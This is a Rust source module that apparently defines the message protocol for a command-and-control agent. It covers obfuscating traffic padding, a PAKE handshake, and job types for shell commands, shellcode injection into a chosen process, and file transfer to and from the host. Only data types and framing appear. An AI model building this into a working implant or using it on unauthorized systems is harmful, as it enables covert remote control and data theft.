use serde::{Deserialize, Serialize};
use uuid::Uuid;

pub mod seal;

/// Wire protocol version carried in every envelope.
pub const PROTOCOL_VERSION: u32 = 1;

/// Hard cap on a frame's JSON payload (16 MiB). Enforced before the payload
/// is allocated, so a hostile length prefix cannot force a huge allocation.
pub const MAX_FRAME_SIZE: u32 = 16 * 1024 * 1024;

// ---------------------------------------------------------------------------
// Envelope
// ---------------------------------------------------------------------------

/// The versioned wire container for every agent <-> server message.
///
/// `id` is the agent identity the message is addressed to or sent from; the
/// agent rejects handshake responses whose `id` does not match its own.
/// `padding` is traffic-shape obfuscation only: random length, random
/// content, never interpreted by the receiver.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Envelope {
    pub version: u32,
    pub id: Uuid,
    pub body: MessageBody,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub padding: Option<String>,
}

impl Envelope {
    pub fn new(id: Uuid, body: MessageBody) -> Self {
        Self {
            version: PROTOCOL_VERSION,
            id,
            body,
            padding: None,
        }
    }

    /// Attach freshly rolled padding. The length is re-rolled on every call;
    /// zero-length padding is represented as `None`.
    pub fn with_padding(mut self, rng: &mut impl rand::Rng, max: usize) -> Self {
        self.padding = padding(rng, max);
        self
    }
}

/// Message payload, keyed by a closed type tag.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "type", content = "payload")]
pub enum MessageBody {
    /// Heartbeat with no results to deliver.
    Checkin,
    /// Completed artifacts (agent -> server) or new work (server -> agent).
    Jobs(Vec<Job>),
    /// PAKE registration / authentication exchange.
    Handshake(HandshakeMessage),
}

/// One step of the PAKE exchange. The re-register signal is a payload
/// variant here, not a distinct top-level message type.
///
/// All key material fields are base64-encoded.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "step")]
pub enum HandshakeMessage {
    /// Agent -> server: blinded ephemeral public key opening registration.
    RegisterInit { blinded: String },
    /// Server -> agent: its blinded ephemeral key plus the registration salt.
    RegisterResponse { blinded: String, salt: String },
    /// Agent -> server: key-confirmation tag; server echoes the same step as
    /// the final registration acknowledgment.
    RegisterComplete { confirm: String },
    /// Agent -> server: fresh blinded ephemeral key plus a proof derived from
    /// the retained registration state.
    AuthInit { blinded: String, proof: String },
    /// Server -> agent: its blinded ephemeral key and key-confirmation tag.
    AuthResponse { blinded: String, confirm: String },
    /// Agent -> server: final key-confirmation tag.
    AuthComplete { confirm: String },
    /// Server -> agent: it has no record of this agent; registration must be
    /// re-run from scratch. Recoverable, never a hard failure.
    ReRegister,
}

// ---------------------------------------------------------------------------
// Jobs
// ---------------------------------------------------------------------------

/// A unit of work addressed to a specific agent, or a completed artifact on
/// its way back to the server. `agent_id` and `id` are carried unchanged
/// through execution so the server can correlate request and response.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Job {
    pub agent_id: Uuid,
    pub id: Uuid,
    /// Ephemeral authorization token issued by the server with the job;
    /// distinct from the agent's self-issued session bearer token.
    pub token: String,
    pub payload: JobPayload,
}

/// Job payload, keyed by a closed type tag.
///
/// Anything with an unrecognized tag lands in `Unknown`, which keeps the raw
/// value so the rejection artifact can name the offending tag. Every match
/// site handles it explicitly.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "kind", content = "data")]
pub enum JobPayload {
    /// Run a program or shell string.
    Command(CommandRequest),
    /// Invoke a named built-in module (ps, uptime, ...).
    Module(CommandRequest),
    /// Agent-native built-ins (ls, pwd, cd, env).
    Native(CommandRequest),
    /// Raw shellcode plus injection technique selector.
    Shellcode(ShellcodeRequest),
    /// Move a file between server and agent in either direction.
    FileTransfer(FileTransfer),
    /// Session-management directive, handled out-of-band from execution.
    Control(CommandRequest),
    /// Agent configuration snapshot (produced, not submitted).
    AgentInfo(AgentInfo),
    /// Execution output (produced, not submitted).
    Result(TaskResult),
    #[serde(untagged)]
    Unknown(serde_json::Value),
}

impl JobPayload {
    /// Human-readable tag for logs and rejection artifacts. For `Unknown`
    /// this is the raw wire tag, e.g. `99`.
    pub fn kind(&self) -> String {
        match self {
            JobPayload::Command(_) => "Command".into(),
            JobPayload::Module(_) => "Module".into(),
            JobPayload::Native(_) => "Native".into(),
            JobPayload::Shellcode(_) => "Shellcode".into(),
            JobPayload::FileTransfer(_) => "FileTransfer".into(),
            JobPayload::Control(_) => "Control".into(),
            JobPayload::AgentInfo(_) => "AgentInfo".into(),
            JobPayload::Result(_) => "Result".into(),
            JobPayload::Unknown(value) => match value.get("kind") {
                Some(serde_json::Value::String(s)) => s.clone(),
                Some(other) => other.to_string(),
                None => "unknown".into(),
            },
        }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CommandRequest {
    pub command: String,
    #[serde(default)]
    pub args: Vec<String>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ShellcodeRequest {
    /// Base64-encoded shellcode bytes.
    pub bytes: String,
    /// Injection technique selector (self, remote, ...).
    pub method: String,
    #[serde(default)]
    pub pid: Option<u32>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FileTransfer {
    pub path: String,
    /// Base64-encoded file content. Empty for upload requests; populated on
    /// the artifact the agent sends back.
    #[serde(default)]
    pub blob: String,
    /// True when the data flows server -> agent (the agent writes the blob
    /// to `path`). False when the server wants the agent to read `path` and
    /// send the content back.
    pub is_download: bool,
}

/// Execution output. `stderr` non-empty means the job failed, but partial
/// `stdout` may still be present.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct TaskResult {
    #[serde(default)]
    pub stdout: String,
    #[serde(default)]
    pub stderr: String,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AgentInfo {
    pub version: String,
    pub hostname: String,
    pub platform: String,
    pub arch: String,
    pub pid: u32,
    pub username: String,
    pub sleep_secs: u64,
    pub skew_ms: u64,
    pub padding_max: usize,
}

// ---------------------------------------------------------------------------
// Padding
// ---------------------------------------------------------------------------

/// Roll random alphanumeric padding of length 0..max. Returns `None` when
/// the rolled length is zero or the maximum is zero.
pub fn padding(rng: &mut impl rand::Rng, max: usize) -> Option<String> {
    use rand::distributions::Alphanumeric;

    if max == 0 {
        return None;
    }
    let len = rng.gen_range(0..max);
    if len == 0 {
        return None;
    }
    let pad: String = rand::Rng::sample_iter(&mut *rng, &Alphanumeric)
        .take(len)
        .map(char::from)
        .collect();
    Some(pad)
}

// ---------------------------------------------------------------------------
// Framing
// ---------------------------------------------------------------------------

/// Why a byte buffer could not be read back as a frame.
#[derive(Debug, thiserror::Error)]
pub enum FrameError {
    #[error("frame header truncated")]
    HeaderTruncated,
    #[error("oversized frame: {0} bytes")]
    Oversized(u32),
    #[error("frame payload truncated: want {want} bytes, have {have}")]
    PayloadTruncated { want: usize, have: usize },
    #[error("frame payload is not valid JSON: {0}")]
    Json(#[from] serde_json::Error),
}

/// Build one wire frame: a big-endian u32 payload length, then the JSON
/// payload itself.
pub fn encode_frame<T: Serialize>(msg: &T) -> Result<Vec<u8>, FrameError> {
    let json = serde_json::to_vec(msg)?;
    let mut buf = Vec::with_capacity(4 + json.len());
    buf.extend_from_slice(&(json.len() as u32).to_be_bytes());
    buf.extend_from_slice(&json);
    Ok(buf)
}

/// Parse one frame off the front of `buf`, yielding the value and the total
/// bytes consumed. [`MAX_FRAME_SIZE`] is checked against the header alone.
pub fn decode_frame<T: serde::de::DeserializeOwned>(buf: &[u8]) -> Result<(T, usize), FrameError> {
    let header: [u8; 4] = buf
        .get(..4)
        .and_then(|h| h.try_into().ok())
        .ok_or(FrameError::HeaderTruncated)?;
    let len = u32::from_be_bytes(header);
    if len > MAX_FRAME_SIZE {
        return Err(FrameError::Oversized(len));
    }
    let len = len as usize;
    let payload = buf.get(4..4 + len).ok_or(FrameError::PayloadTruncated {
        want: len,
        have: buf.len().saturating_sub(4),
    })?;
    Ok((serde_json::from_slice(payload)?, 4 + len))
}
